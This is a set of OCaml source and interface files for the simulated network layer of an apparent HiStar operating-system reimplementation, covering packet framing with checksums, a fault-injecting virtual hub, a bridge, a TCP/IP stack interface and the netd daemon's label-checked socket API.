(* Every frame carries an FCS trailer (fnv64 over the body), checked
   by [frame_of_bytes].  A frame whose bits flipped on the wire fails
   the check and is dropped at the receiving NIC rather than handed
   to the stack — the guarantee that makes injected frame corruption
   indistinguishable from loss at the transport layer. *)
let frame_to_bytes f =
  let e = Codec.Enc.create () in
  Codec.Enc.str e f.src_mac;
  Codec.Enc.str e f.dst_mac;
  Codec.Enc.u32 e f.ip.src_ip;
  Codec.Enc.u32 e f.ip.dst_ip;
  (match f.ip.proto with
  | Tcp t ->
      Codec.Enc.u8 e 6;
      Codec.Enc.u16 e t.src_port;
      Codec.Enc.u16 e t.dst_port;
      Codec.Enc.u32 e t.seq;
      Codec.Enc.u32 e t.ack_no;
      let bits =
        (if t.flags.syn then 1 else 0)
        lor (if t.flags.ack then 2 else 0)
        lor (if t.flags.fin then 4 else 0)
        lor if t.flags.rst then 8 else 0
      in
      Codec.Enc.u8 e bits;
      Codec.Enc.u32 e t.window;
      Codec.Enc.str e t.payload
  | Udp u ->
      Codec.Enc.u8 e 17;
      Codec.Enc.u16 e u.usrc_port;
      Codec.Enc.u16 e u.udst_port;
      Codec.Enc.str e u.upayload);
  let body = Codec.Enc.to_string e in
  let fcs = Codec.Enc.create () in
  Codec.Enc.i64 fcs (Histar_util.Checksum.fnv64 body);
  body ^ Codec.Enc.to_string fcs

let frame_of_bytes s =
  match
    let n = String.length s in
    if n < 8 then raise Codec.Truncated;
    let body_len = n - 8 in
    let fcs = Codec.Dec.i64 (Codec.Dec.of_string (String.sub s body_len 8)) in
    if not
         (Int64.equal fcs
            (Histar_util.Checksum.fnv64_sub s ~pos:0 ~len:body_len))
    then raise Codec.Truncated;
    let d = Codec.Dec.of_string (String.sub s 0 body_len) in
    let src_mac = Codec.Dec.str d in
    let dst_mac = Codec.Dec.str d in
    let src_ip = Codec.Dec.u32 d in
    let dst_ip = Codec.Dec.u32 d in
    let proto =
      match Codec.Dec.u8 d with
      | 6 ->
          let src_port = Codec.Dec.u16 d in
          let dst_port = Codec.Dec.u16 d in
          let seq = Codec.Dec.u32 d in
          let ack_no = Codec.Dec.u32 d in
          let bits = Codec.Dec.u8 d in
          let window = Codec.Dec.u32 d in
          let payload = Codec.Dec.str d in
          Tcp
            {
              src_port;
              dst_port;
              seq;
              ack_no;
              flags =
                {
                  syn = bits land 1 <> 0;
                  ack = bits land 2 <> 0;
                  fin = bits land 4 <> 0;
                  rst = bits land 8 <> 0;
                };
              window;
              payload;
            }
      | 17 ->
          let usrc_port = Codec.Dec.u16 d in
          let udst_port = Codec.Dec.u16 d in
          let upayload = Codec.Dec.str d in
          Udp { usrc_port; udst_port; upayload }
      | _ -> raise Codec.Truncated
    in
    { src_mac; dst_mac; ip = { src_ip; dst_ip; proto } }
  with
  | f -> Some f
  | exception Codec.Truncated -> None

let frame_len f = String.length (frame_to_bytes f)

let pp_frame fmt f =
  match f.ip.proto with
  | Tcp t ->
      Format.fprintf fmt "%a:%d -> %a:%d seq=%d ack=%d%s%s%s len=%d"
        Addr.pp_ip f.ip.src_ip t.src_port Addr.pp_ip f.ip.dst_ip t.dst_port
        t.seq t.ack_no
        (if t.flags.syn then " SYN" else "")
        (if t.flags.ack then " ACK" else "")
        (if t.flags.fin then " FIN" else "")
        (String.length t.payload)
  | Udp u ->
      Format.fprintf fmt "%a:%d -> %a:%d UDP len=%d" Addr.pp_ip f.ip.src_ip
        u.usrc_port Addr.pp_ip f.ip.dst_ip u.udst_port
        (String.length u.upayload)
