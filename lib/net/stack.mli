(** A small TCP/IP stack — the stand-in for lwIP (§5.7).

    The API is non-blocking and callback-free: callers feed incoming
    frames with {!input}, drive retransmission timers with {!tick}, and
    poll sockets. Blocking semantics are layered on top (netd uses the
    scheduler; tests and simulated internet hosts poll).

    TCP here is a compact but real protocol: three-way handshake,
    cumulative acknowledgements, a fixed receive window with MSS-sized
    segments, go-back-N retransmission with an adaptive RTO
    (RFC 6298-style SRTT/RTTVAR estimation on the virtual clock,
    exponential backoff, Karn's algorithm), and FIN teardown. After
    too many consecutive timeouts a connection gives up: it closes
    with {!error} set rather than retransmitting forever.
    Out-of-order segments are dropped and re-acked (the faulty hub
    can reorder and duplicate; retransmission recovers). *)

type t

val create :
  mac:string ->
  ip:Addr.ip ->
  send:(string -> unit) ->
  resolve:(Addr.ip -> string option) ->
  clock:Histar_util.Sim_clock.t ->
  unit ->
  t

val mac : t -> string
val ip : t -> Addr.ip

val input : t -> string -> unit
(** Process one received (encoded) frame. *)

val tick : t -> unit
(** Run timers: retransmit anything unacknowledged past its deadline. *)

(** {1 TCP} *)

type conn

type conn_state =
  | Syn_sent
  | Syn_received
  | Established
  | Fin_wait
  | Close_wait
  | Closed

val listen : t -> port:Addr.port -> unit
val unlisten : t -> port:Addr.port -> unit

val accept : t -> port:Addr.port -> conn option
(** Next fully-established connection on a listening port, if any. *)

val connect : t -> dst:Addr.t -> conn
val state : conn -> conn_state
val peer : conn -> Addr.t

val error : conn -> string option
(** Terminal failure reason, set when the connection gave up (e.g.
    exhausted retransmissions over a dead link). A conn with an error
    is [Closed]. *)

val send : conn -> string -> unit
(** Enqueue bytes on an established (or establishing) connection. *)

val recv : conn -> string
(** Drain whatever has arrived (possibly [""]). *)

val recv_eof : conn -> bool
(** The peer has sent FIN and all data has been drained. *)

val close : conn -> unit
val bytes_in_flight : conn -> int

(** {1 UDP} *)

val udp_bind : t -> port:Addr.port -> unit
val udp_send : t -> dst:Addr.t -> string -> unit
val udp_recv : t -> port:Addr.port -> (Addr.t * string) option

(** {1 Timer introspection}

    For blocking drivers (netd's timer thread) that must know whether
    anything is waiting on a retransmission deadline. *)

val needs_timer : t -> bool
(** Some connection has an armed RTO. *)

val next_timer_deadline : t -> int64 option
(** Earliest armed RTO deadline (virtual ns), if any. *)

val active_conns : t -> int

(** {1 Stats} *)

val segments_sent : t -> int
val segments_retransmitted : t -> int
