(** A two-port bridge between {!Hub}s: multi-hub IP routing for the
    simulated network. Attaches one port to each hub as its default
    route; frames for IPs the far hub owns are re-addressed to the
    owner's MAC and injected there. Broadcasts are not forwarded. *)

type t

val connect :
  a:Hub.t ->
  a_ip:Addr.ip ->
  b:Hub.t ->
  b_ip:Addr.ip ->
  ?mac:string ->
  unit ->
  t
(** Attach the bridge between [a] and [b], registering port IPs
    [a_ip]/[b_ip] and installing the ports as each hub's default
    route. *)

val frames_forwarded : t -> int
val frames_unroutable : t -> int
