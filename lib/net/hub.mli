(** The simulated wire: a hub connecting endpoints by MAC address, with
    a bandwidth/latency model charged on the shared virtual clock and
    optional random frame loss for exercising retransmission.

    Substitutes for the paper's 100 Mbps Ethernet (§7.2). *)

type t

type endpoint = {
  ep_mac : string;
  ep_ip : Addr.ip;
  ep_deliver : string -> unit;  (** called with the encoded frame *)
}

val create :
  ?bandwidth_bps:float ->
  ?latency_us:float ->
  ?loss_rate:float ->
  ?rng:Histar_util.Rng.t ->
  ?faults:Histar_faults.Faults.Net_faults.t ->
  clock:Histar_util.Sim_clock.t ->
  unit ->
  t
(** Defaults: 100 Mbps, 100 µs latency, no loss, no fault plan. *)

val set_faults : t -> Histar_faults.Faults.Net_faults.t option -> unit
(** Attach (or clear) a deterministic network-fault plan: per-frame
    loss, single-byte corruption (caught by the frame FCS at the
    receiver), duplication, bounded reordering, delay jitter, and
    time-based link flaps. *)

val attach : t -> endpoint -> unit
val detach : t -> mac:string -> unit

val inject : t -> string -> unit
(** Put an encoded frame on the wire: charges transmission time, then
    delivers to the destination MAC (or everyone, for the broadcast MAC
    ["ff:ff:ff:ff:ff:ff"]). Unknown destinations are dropped. *)

val resolve : t -> Addr.ip -> string option
(** MAC for an attached IP (the stand-in for ARP); falls back to the
    default route when set. *)

val set_default_route : t -> mac:string -> unit
(** Deliver frames for unknown IPs to this endpoint (a gateway). *)

val frames_sent : t -> int

val frames_lost : t -> int
(** Frames dropped by random loss, an injected fault, or a link flap. *)

val frames_no_route : t -> int
(** Frames dropped because they decode to no attached destination
    (includes frames whose FCS check failed after wire corruption). *)

val frames_dropped : t -> int
(** [frames_lost + frames_no_route] — kept for compatibility. *)

val bytes_sent : t -> int

val flush_held : t -> unit
(** Deliver any frames still parked in the reordering queue. Tests
    call this when draining the wire so a held frame is not
    misread as a lost one. *)
