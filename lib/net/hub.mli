(** The simulated wire: a hub connecting endpoints by MAC address, with
    a bandwidth/latency model charged on the shared virtual clock and
    optional random frame loss for exercising retransmission.

    Substitutes for the paper's 100 Mbps Ethernet (§7.2). *)

type t

type endpoint = {
  ep_mac : string;
  ep_ip : Addr.ip;
  ep_deliver : string -> unit;  (** called with the encoded frame *)
}

val create :
  ?bandwidth_bps:float ->
  ?latency_us:float ->
  ?loss_rate:float ->
  ?rng:Histar_util.Rng.t ->
  ?faults:Histar_faults.Faults.Net_faults.t ->
  clock:Histar_util.Sim_clock.t ->
  unit ->
  t
(** Defaults: 100 Mbps, 100 µs latency, no loss, no fault plan. *)

val set_faults : t -> Histar_faults.Faults.Net_faults.t option -> unit
(** Attach (or clear) a deterministic network-fault plan: per-frame
    loss, single-byte corruption (caught by the frame FCS at the
    receiver), duplication, bounded reordering, delay jitter, and
    time-based link flaps. *)

val set_link_faults :
  t ->
  mac:string ->
  (Histar_faults.Faults.Net_faults.t * (unit -> int64)) option ->
  unit
(** Attach (or clear) a per-endpoint link-fault plan: only its flap
    windows are consulted, and every frame to or from the endpoint is
    lost while the link is down. The clock function supplies the
    virtual time the flap schedule is evaluated against (typically the
    observing node's kernel clock), so a "killed" node's down window is
    deterministic in that node's timeline. *)

val link_up : t -> string -> bool
(** Whether the endpoint's link is currently up ([true] when it has no
    link-fault plan). *)

val set_tap : t -> (string -> unit) option -> unit
(** Packet-capture hook: called with every injected frame exactly as
    it appears on the wire (before any loss/corruption decision) —
    what a passive eavesdropper on the shared segment would record. *)

val broadcast_mac : string
(** ["ff:ff:ff:ff:ff:ff"]. *)

val attach : t -> endpoint -> unit
val detach : t -> mac:string -> unit

val inject : t -> string -> unit
(** Put an encoded frame on the wire: charges transmission time, then
    delivers to the destination MAC (or everyone, for the broadcast MAC
    ["ff:ff:ff:ff:ff:ff"]). Unknown destinations are dropped.

    Inside {!with_outbox} the frame is deferred to the active outbox
    instead, touching no hub state — the BSP hook the cluster driver
    uses to step kernels on separate domains between barriers. *)

(** {2 Deferred injection (BSP outboxes)}

    The cluster driver steps each node's kernel inside [with_outbox]:
    frames the node transmits are parked, tagged with their target
    hub, in a domain-local outbox, and the driver flushes them through
    the real inject path at the next global-virtual-time barrier in
    kernel registration order (FIFO within a sender). The flush
    schedule is a pure function of registration order — independent of
    how many domains stepped the kernels — which is what keeps
    multi-domain cluster runs byte-identical to single-domain ones. *)

type outbox

val new_outbox : unit -> outbox

val with_outbox : outbox -> (unit -> 'a) -> 'a
(** Run [f] with every [inject] (on any hub, from this domain)
    deferred into the outbox. Nests: the innermost scope wins. *)

val flush_outbox : outbox -> unit
(** Re-inject the parked frames, oldest first, through the normal
    wire path. Call outside any {!with_outbox} scope. *)

val outbox_empty : outbox -> bool

val resolve : t -> Addr.ip -> string option
(** MAC for an attached IP (the stand-in for ARP); falls back to the
    default route when set. *)

val lookup : t -> Addr.ip -> string option
(** Like {!resolve} but with no default-route fallback: [Some mac]
    only when the IP is attached to this hub. Used by {!Bridge} to
    decide which side of a two-hub topology owns an address. *)

val set_default_route : t -> mac:string -> unit
(** Deliver frames for unknown IPs to this endpoint (a gateway). *)

val frames_sent : t -> int

val frames_lost : t -> int
(** Frames dropped by random loss, an injected fault, or a link flap. *)

val frames_no_route : t -> int
(** Frames dropped because they decode to no attached destination
    (includes frames whose FCS check failed after wire corruption). *)

val frames_dropped : t -> int
(** [frames_lost + frames_no_route] — kept for compatibility. *)

val bytes_sent : t -> int

val flush_held : t -> unit
(** Deliver any frames still parked in the reordering queue. Tests
    call this when draining the wire so a held frame is not
    misread as a lost one. *)
