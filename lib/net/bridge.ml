(* A two-port store-and-forward bridge between hubs: the multi-hub
   routing piece of the simulated network. Each port attaches to one
   hub as that hub's default route, so frames for IPs the local hub
   does not know arrive here; if the far hub owns the destination IP
   the frame is re-addressed to the owner's MAC and injected there
   (charging the far wire's cost model), otherwise it is dropped as
   unroutable on the far side. Broadcast frames are not forwarded —
   each hub is its own broadcast domain. *)

module Metrics = Histar_metrics.Metrics

let m_forwarded = Metrics.counter "net.bridge_forwarded"
let m_unroutable = Metrics.counter "net.bridge_no_route"

type t = {
  mutable forwarded : int;
  mutable unroutable : int;
}

let forward t ~src ~dst bytes =
  ignore src;
  match Packet.frame_of_bytes bytes with
  | None -> ()
  | Some f ->
      if String.equal f.Packet.dst_mac Hub.broadcast_mac then ()
      else (
        match Hub.lookup dst f.Packet.ip.Packet.dst_ip with
        | Some mac ->
            t.forwarded <- t.forwarded + 1;
            Metrics.Counter.incr m_forwarded;
            Hub.inject dst
              (Packet.frame_to_bytes { f with Packet.dst_mac = mac })
        | None ->
            t.unroutable <- t.unroutable + 1;
            Metrics.Counter.incr m_unroutable)

let connect ~a ~a_ip ~b ~b_ip ?(mac = "bridge") () =
  let t = { forwarded = 0; unroutable = 0 } in
  let mac_a = mac ^ ":a" and mac_b = mac ^ ":b" in
  Hub.attach a
    {
      Hub.ep_mac = mac_a;
      ep_ip = a_ip;
      ep_deliver = (fun bytes -> forward t ~src:a ~dst:b bytes);
    };
  Hub.attach b
    {
      Hub.ep_mac = mac_b;
      ep_ip = b_ip;
      ep_deliver = (fun bytes -> forward t ~src:b ~dst:a bytes);
    };
  Hub.set_default_route a ~mac:mac_a;
  Hub.set_default_route b ~mac:mac_b;
  t

let frames_forwarded t = t.forwarded
let frames_unroutable t = t.unroutable
