(** netd: the user-level network daemon (§5.7).

    lwIP (here, {!Stack}) runs in a separate netd process that owns the
    network device's [nr]/[nw] categories and exposes a single service
    gate through which other processes perform socket operations. netd
    is mostly untrusted: it cannot bypass the [i] taint on data read
    from the network, so a compromised netd amounts to an eavesdropping
    or packet-tampering attacker, nothing more.

    Socket API semantics enforced by netd (mirroring what the kernel
    enforces on the raw device):
    - receiving network data requires the caller to be tainted [i2]
      (it must be able to observe the device);
    - sending requires the caller's label to flow to the device label,
      so e.g. VPN-tainted data cannot leave via the internet device.

    Blocking is implemented with a futex on a notify segment that the
    receive-pump thread bumps on every frame. A third netd thread —
    the retransmission pacemaker — parks on the stack's earliest RTO
    deadline via [Sys.sleep_until_ns], so retransmission makes
    progress even when the link drops every frame (the rx pump alone
    only ticks the stack on arrival). *)

type t

val start :
  Histar_core.Kernel.t ->
  hub:Hub.t ->
  container:Histar_core.Types.oid ->
  ip:Addr.ip ->
  mac:string ->
  ?taint:Histar_label.Category.t ->
  unit ->
  t
(** Create the device (labeled [{i2, 1}] when [taint] is given),
    attach it to the hub, and spawn the netd process. Must be called
    before [Kernel.run]. *)

val service_gate : t -> Histar_core.Types.centry
(** The gate clients invoke for socket operations. *)

val device : t -> Histar_core.Types.oid
val device_label : t -> Histar_label.Label.t
val stack : t -> Stack.t
(** Host-side access for tests. *)

(** {1 Client-side wrappers}

    These run on the calling thread inside HiStar user code; each
    performs one gate call. Socket handles are small integers, valid
    per-netd. *)

module Client : sig
  type sock = int

  exception Netd_error of string

  val connect : t -> return_container:Histar_core.Types.oid -> Addr.t -> sock

  val connect_retry :
    ?attempts:int ->
    t ->
    return_container:Histar_core.Types.oid ->
    Addr.t ->
    sock
  (** Like {!connect}, but retries transport-level handshake failures
      (retransmission give-up over a lossy or flapping link) up to
      [attempts] times (default 3). Label denials are not retried. *)

  val listen : t -> return_container:Histar_core.Types.oid -> Addr.port -> unit

  val accept : t -> return_container:Histar_core.Types.oid -> Addr.port -> sock
  (** Blocks until a connection arrives. *)

  val send : t -> return_container:Histar_core.Types.oid -> sock -> string -> unit

  val recv : t -> return_container:Histar_core.Types.oid -> sock -> string option
  (** Blocks until data is available; [None] at end of stream. *)

  val close : t -> return_container:Histar_core.Types.oid -> sock -> unit
end
