module Sim_clock = Histar_util.Sim_clock
module Rng = Histar_util.Rng
module Metrics = Histar_metrics.Metrics

(* Wire-level traffic counters across every hub instance. *)
let m_frames_sent = Metrics.counter "net.frames_sent"
let m_frames_dropped = Metrics.counter "net.frames_dropped"
let m_bytes_sent = Metrics.counter "net.bytes_sent"

type endpoint = {
  ep_mac : string;
  ep_ip : Addr.ip;
  ep_deliver : string -> unit;
}

type t = {
  clock : Sim_clock.t;
  bandwidth_bps : float;
  latency_us : float;
  loss_rate : float;
  rng : Rng.t;
  endpoints : (string, endpoint) Hashtbl.t;
  by_ip : (Addr.ip, string) Hashtbl.t;
  mutable frames_sent : int;
  mutable frames_dropped : int;
  mutable bytes_sent : int;
  mutable default_route : string option;  (** MAC for unknown IPs *)
}

let broadcast_mac = "ff:ff:ff:ff:ff:ff"

let create ?(bandwidth_bps = 100e6) ?(latency_us = 100.0) ?(loss_rate = 0.0)
    ?rng ~clock () =
  {
    clock;
    bandwidth_bps;
    latency_us;
    loss_rate;
    rng = (match rng with Some r -> r | None -> Rng.create 0x6e657477L);
    endpoints = Hashtbl.create 8;
    by_ip = Hashtbl.create 8;
    frames_sent = 0;
    frames_dropped = 0;
    bytes_sent = 0;
    default_route = None;
  }

let attach t ep =
  Hashtbl.replace t.endpoints ep.ep_mac ep;
  Hashtbl.replace t.by_ip ep.ep_ip ep.ep_mac

let detach t ~mac =
  match Hashtbl.find_opt t.endpoints mac with
  | Some ep ->
      Hashtbl.remove t.endpoints mac;
      Hashtbl.remove t.by_ip ep.ep_ip
  | None -> ()

let resolve t ip =
  match Hashtbl.find_opt t.by_ip ip with
  | Some mac -> Some mac
  | None -> t.default_route

let set_default_route t ~mac = t.default_route <- Some mac

let inject t bytes =
  let nbytes = String.length bytes in
  (* Serialization (transmission) time is what occupies the wire and
     advances the shared clock; propagation latency overlaps with other
     traffic and is charged at a tenth to keep handshakes non-free
     without capping pipelined throughput below line rate. *)
  Sim_clock.advance_us t.clock
    ((t.latency_us /. 10.0)
    +. (float_of_int (nbytes * 8) /. t.bandwidth_bps *. 1e6));
  t.frames_sent <- t.frames_sent + 1;
  t.bytes_sent <- t.bytes_sent + nbytes;
  Metrics.Counter.incr m_frames_sent;
  Metrics.Counter.add m_bytes_sent nbytes;
  let drop () =
    t.frames_dropped <- t.frames_dropped + 1;
    Metrics.Counter.incr m_frames_dropped
  in
  let lost =
    t.loss_rate > 0.0
    && Rng.int t.rng 1_000_000 < int_of_float (t.loss_rate *. 1e6)
  in
  if lost then drop ()
  else
    match Packet.frame_of_bytes bytes with
    | None -> drop ()
    | Some f ->
        if String.equal f.Packet.dst_mac broadcast_mac then
          Hashtbl.iter
            (fun mac ep ->
              if not (String.equal mac f.Packet.src_mac) then ep.ep_deliver bytes)
            t.endpoints
        else (
          match Hashtbl.find_opt t.endpoints f.Packet.dst_mac with
          | Some ep -> ep.ep_deliver bytes
          | None -> drop ())

let frames_sent t = t.frames_sent
let frames_dropped t = t.frames_dropped
let bytes_sent t = t.bytes_sent
