module Sim_clock = Histar_util.Sim_clock
module Rng = Histar_util.Rng
module Metrics = Histar_metrics.Metrics
module Net_faults = Histar_faults.Faults.Net_faults

(* Wire-level traffic counters across every hub instance.
   [net.frames_dropped] stays the sum of the loss and no-route
   streams so pre-split consumers keep working. *)
let m_frames_sent = Metrics.counter "net.frames_sent"
let m_frames_dropped = Metrics.counter "net.frames_dropped"
let m_frames_lost = Metrics.counter "net.frames_lost"
let m_frames_no_route = Metrics.counter "net.frames_no_route"
let m_frames_duplicated = Metrics.counter "net.frames_duplicated"
let m_frames_reordered = Metrics.counter "net.frames_reordered"
let m_bytes_sent = Metrics.counter "net.bytes_sent"

(* Byte accounting with a conservation identity: every transmission
   attempt (original inject, each duplicate delivery, each extra
   broadcast recipient) counts toward [net.bytes_tx], and is then
   accounted exactly once as received ([net.bytes_rx]), lost
   ([net.bytes_lost]) or unroutable ([net.bytes_no_route]), so

     bytes_tx = bytes_rx + bytes_lost + bytes_no_route

   holds whenever the reorder queue is drained ([flush_held]).
   [net.bytes_tx.<mac>] / [net.bytes_rx.<mac>] attribute the same
   streams to the sending and receiving hosts. *)
let m_bytes_tx = Metrics.counter "net.bytes_tx"
let m_bytes_rx = Metrics.counter "net.bytes_rx"
let m_bytes_lost = Metrics.counter "net.bytes_lost"
let m_bytes_no_route = Metrics.counter "net.bytes_no_route"

let per_host : (string, Metrics.Counter.t) Hashtbl.t = Hashtbl.create 16

let host_counter ~dir mac =
  let name = Printf.sprintf "net.bytes_%s.%s" dir mac in
  match Hashtbl.find_opt per_host name with
  | Some c -> c
  | None ->
      let c = Metrics.counter name in
      Hashtbl.replace per_host name c;
      c

type endpoint = {
  ep_mac : string;
  ep_ip : Addr.ip;
  ep_deliver : string -> unit;
}

(* A per-endpoint link-fault plan: consulted (as a flap window) for
   every frame to or from the endpoint. The clock is caller-supplied
   so a link can flap on a node's virtual time rather than the hub's
   wire time. *)
type link = { lk_faults : Net_faults.t; lk_clock : unit -> int64 }

type t = {
  clock : Sim_clock.t;
  bandwidth_bps : float;
  latency_us : float;
  loss_rate : float;
  rng : Rng.t;
  endpoints : (string, endpoint) Hashtbl.t;
  by_ip : (Addr.ip, string) Hashtbl.t;
  links : (string, link) Hashtbl.t;
  mutable frames_sent : int;
  mutable frames_lost : int;
  mutable frames_no_route : int;
  mutable bytes_sent : int;
  mutable default_route : string option;  (** MAC for unknown IPs *)
  mutable faults : Net_faults.t option;
  mutable tap : (string -> unit) option;
      (** packet-capture hook: sees every injected frame *)
  mutable holdq : (int * string) list;
      (** reordering: frames held back, released after N later injects *)
}

let broadcast_mac = "ff:ff:ff:ff:ff:ff"

let create ?(bandwidth_bps = 100e6) ?(latency_us = 100.0) ?(loss_rate = 0.0)
    ?rng ?faults ~clock () =
  {
    clock;
    bandwidth_bps;
    latency_us;
    loss_rate;
    rng = (match rng with Some r -> r | None -> Rng.create 0x6e657477L);
    endpoints = Hashtbl.create 8;
    by_ip = Hashtbl.create 8;
    links = Hashtbl.create 8;
    frames_sent = 0;
    frames_lost = 0;
    frames_no_route = 0;
    bytes_sent = 0;
    default_route = None;
    faults;
    tap = None;
    holdq = [];
  }

let set_faults t f = t.faults <- f
let set_tap t f = t.tap <- f

let set_link_faults t ~mac plan =
  match plan with
  | Some (faults, clock) ->
      Hashtbl.replace t.links mac { lk_faults = faults; lk_clock = clock }
  | None -> Hashtbl.remove t.links mac

let link_up t mac =
  match Hashtbl.find_opt t.links mac with
  | None -> true
  | Some l -> Net_faults.link_up l.lk_faults ~now_ns:(l.lk_clock ())

let attach t ep =
  Hashtbl.replace t.endpoints ep.ep_mac ep;
  Hashtbl.replace t.by_ip ep.ep_ip ep.ep_mac

let detach t ~mac =
  match Hashtbl.find_opt t.endpoints mac with
  | Some ep ->
      Hashtbl.remove t.endpoints mac;
      Hashtbl.remove t.by_ip ep.ep_ip
  | None -> ()

let lookup t ip = Hashtbl.find_opt t.by_ip ip

let resolve t ip =
  match Hashtbl.find_opt t.by_ip ip with
  | Some mac -> Some mac
  | None -> t.default_route

let set_default_route t ~mac = t.default_route <- Some mac

let drop_lost t ~nbytes =
  t.frames_lost <- t.frames_lost + 1;
  Metrics.Counter.incr m_frames_lost;
  Metrics.Counter.incr m_frames_dropped;
  Metrics.Counter.add m_bytes_lost nbytes

let drop_no_route t ~nbytes =
  t.frames_no_route <- t.frames_no_route + 1;
  Metrics.Counter.incr m_frames_no_route;
  Metrics.Counter.incr m_frames_dropped;
  Metrics.Counter.add m_bytes_no_route nbytes

(* One transmission attempt entering the routing fabric. Called once
   per inject, and again for each duplicate delivery and each extra
   broadcast recipient, so the byte-conservation identity holds. *)
let account_tx ~src nbytes =
  Metrics.Counter.add m_bytes_tx nbytes;
  match src with
  | Some mac -> Metrics.Counter.add (host_counter ~dir:"tx" mac) nbytes
  | None -> ()

let account_rx ~mac nbytes =
  Metrics.Counter.add m_bytes_rx nbytes;
  Metrics.Counter.add (host_counter ~dir:"rx" mac) nbytes

let deliver ep bytes =
  account_rx ~mac:ep.ep_mac (String.length bytes);
  ep.ep_deliver bytes

(* Decode + deliver to the destination endpoint(s). A frame that does
   not decode here was corrupted in flight (or addressed nowhere) —
   the receiving NIC would never see a valid destination, so it is a
   no-route drop. A frame to or from a flapped-down link is lost. *)
let route t bytes =
  let nbytes = String.length bytes in
  match Packet.frame_of_bytes bytes with
  | None -> drop_no_route t ~nbytes
  | Some f ->
      if not (link_up t f.Packet.src_mac && link_up t f.Packet.dst_mac) then
        drop_lost t ~nbytes
      else if String.equal f.Packet.dst_mac broadcast_mac then begin
        let recipients =
          Hashtbl.fold
            (fun mac ep acc ->
              if String.equal mac f.Packet.src_mac then acc else ep :: acc)
            t.endpoints []
          |> List.sort (fun a b -> String.compare a.ep_mac b.ep_mac)
        in
        match recipients with
        | [] -> drop_no_route t ~nbytes
        | first :: rest ->
            deliver first bytes;
            List.iter
              (fun ep ->
                (* the hub repeats the frame out of each extra port *)
                account_tx ~src:(Some f.Packet.src_mac) nbytes;
                deliver ep bytes)
              rest
      end
      else (
        match Hashtbl.find_opt t.endpoints f.Packet.dst_mac with
        | Some ep -> deliver ep bytes
        | None -> drop_no_route t ~nbytes)

(* Age the reorder queue by one inject and release frames whose hold
   expired. Collect first, then deliver: delivery can re-enter
   [inject] (a stack acking straight from its rx path), which ages
   the queue again — mutating while iterating would double-count. *)
let release_due t =
  let due, still =
    List.partition_map
      (fun (n, b) -> if n <= 1 then Left b else Right (n - 1, b))
      t.holdq
  in
  t.holdq <- still;
  List.iter (fun b -> route t b) due

(* ---------- deferred injection (BSP outboxes) ---------- *)

(* The cluster driver steps kernels on separate domains between
   global-virtual-time barriers. Everything a kernel touches while
   stepping is its own — except the hub, whose inject path advances
   the shared wire clock, consumes the shared loss RNG and delivers
   synchronously into the destination stack. So while a kernel steps
   inside [with_outbox], [inject] only appends the raw frame (with its
   target hub) to the domain-local outbox and touches no hub state at
   all; the driver flushes outboxes through the real inject path at
   the barrier, in kernel registration order, FIFO within each sender.
   The flush order is a pure function of registration order, so the
   wire schedule is identical whatever the domain count — including 1,
   which is what makes single- and multi-domain runs byte-identical. *)
type outbox = (t * string) list ref (* reversed *)

let new_outbox () : outbox = ref []

let outbox_key : outbox option ref Domain.DLS.key =
  Domain.DLS.new_key (fun () -> ref None)

let with_outbox (ob : outbox) f =
  let cell = Domain.DLS.get outbox_key in
  let saved = !cell in
  cell := Some ob;
  Fun.protect ~finally:(fun () -> cell := saved) f

let inject_now t bytes =
  let nbytes = String.length bytes in
  (* Serialization (transmission) time is what occupies the wire and
     advances the shared clock; propagation latency overlaps with other
     traffic and is charged at a tenth to keep handshakes non-free
     without capping pipelined throughput below line rate. *)
  Sim_clock.advance_us t.clock
    ((t.latency_us /. 10.0)
    +. (float_of_int (nbytes * 8) /. t.bandwidth_bps *. 1e6));
  t.frames_sent <- t.frames_sent + 1;
  t.bytes_sent <- t.bytes_sent + nbytes;
  Metrics.Counter.incr m_frames_sent;
  Metrics.Counter.add m_bytes_sent nbytes;
  (* The tap is an eavesdropper on the shared wire: it sees every
     frame as injected, before any loss or corruption decision. *)
  (match t.tap with Some f -> f bytes | None -> ());
  let src_mac =
    match Packet.frame_of_bytes bytes with
    | Some f -> Some f.Packet.src_mac
    | None -> None
  in
  account_tx ~src:src_mac nbytes;
  let lost =
    t.loss_rate > 0.0
    && Rng.int t.rng 1_000_000 < int_of_float (t.loss_rate *. 1e6)
  in
  (if lost then drop_lost t ~nbytes
   else
     match t.faults with
     | None -> route t bytes
     | Some nf -> (
         let v = Net_faults.on_frame nf ~now_ns:(Sim_clock.now_ns t.clock) in
         match v.Net_faults.drop with
         | `Loss | `Flap -> drop_lost t ~nbytes
         | `No ->
             let bytes =
               if v.Net_faults.corrupt then (
                 let b = Bytes.of_string bytes in
                 Net_faults.corrupt_bytes nf b;
                 Bytes.unsafe_to_string b)
               else bytes
             in
             if Int64.compare v.Net_faults.jitter_ns 0L > 0 then
               Sim_clock.advance_ns t.clock v.Net_faults.jitter_ns;
             if v.Net_faults.hold > 0 then (
               Metrics.Counter.incr m_frames_reordered;
               t.holdq <- t.holdq @ [ (v.Net_faults.hold, bytes) ])
             else begin
               route t bytes;
               if v.Net_faults.duplicate then begin
                 Metrics.Counter.incr m_frames_duplicated;
                 account_tx ~src:src_mac nbytes;
                 route t bytes
               end
             end));
  release_due t

let inject t bytes =
  match !(Domain.DLS.get outbox_key) with
  | Some ob -> ob := (t, bytes) :: !ob
  | None -> inject_now t bytes

(* Replay a drained outbox through the real inject path, oldest frame
   first. Runs at the barrier, outside any [with_outbox] scope, so
   re-entrant injects from rx paths (a stack acking straight out of
   [ep_deliver]) hit the wire immediately, exactly as they do in a
   plain sequential run. *)
let flush_outbox (ob : outbox) =
  let frames = List.rev !ob in
  ob := [];
  List.iter (fun (t, bytes) -> inject_now t bytes) frames

let outbox_empty (ob : outbox) = !ob = []

let frames_sent t = t.frames_sent
let frames_lost t = t.frames_lost
let frames_no_route t = t.frames_no_route
let frames_dropped t = t.frames_lost + t.frames_no_route
let bytes_sent t = t.bytes_sent

(* Deliver everything still held in the reorder queue (a drained wire
   at the end of a run); used by tests to avoid conflating a held
   frame with a lost one. *)
let flush_held t =
  let rec go () =
    match t.holdq with
    | [] -> ()
    | (_, b) :: rest ->
        t.holdq <- rest;
        route t b;
        go ()
  in
  go ()
