module Kernel = Histar_core.Kernel
module Sys = Histar_core.Sys
module Types = Histar_core.Types
module Label = Histar_label.Label
module Level = Histar_label.Level
module Codec = Histar_util.Codec
open Types

(* Worker-queue entries are plain OCaml values: the queue models netd's
   internal shared memory, which the kernel does not interpret. *)
type work =
  | W_connect of Addr.t * int  (* destination, socket id *)
  | W_listen of Addr.port
  | W_send of int * string
